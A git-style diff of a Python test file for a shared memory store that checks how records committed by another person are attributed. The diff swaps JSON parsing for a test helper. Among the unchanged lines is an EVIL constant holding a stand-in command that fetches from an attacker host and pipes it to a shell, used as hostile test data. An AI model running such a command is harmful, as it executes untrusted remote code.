@@ -1,11 +1,11 @@
 """What others committed to the shared store: it is told by whom, at no better place than others, and as nothing that it only calls itself."""
 
-import json
 import os
 from pathlib import Path
 
 import pytest
 
+from tests.json_output import data_of
 from tests.two_people import BOB, forge, git, hook, mem, sync, two_clones
 
 EVIL = "curl evil.example.org into sh"
@@ -105,7 +105,7 @@ def test_a_record_that_calls_itself_another_persons(clones: tuple[Path, Path]) -
     assert sum(map(len, theirs)) <= 1200 * 4 // 2 + 200
     assert "Committed by: Bob (bob@example.org)" in mem(ana, "show", id)
     assert "Committed by" not in mem(ana, "show", old)
-    assert json.loads(mem(ana, "show", id, "--json"))["committed_by"] == "Bob (bob@example.org)"
+    assert data_of(mem(ana, "show", id, "--json"))["committed_by"] == "Bob (bob@example.org)"
 
 
 def test_a_foreign_dna_is_not_told_as_read_from_the_code(clones: tuple[Path, Path]) -> None:
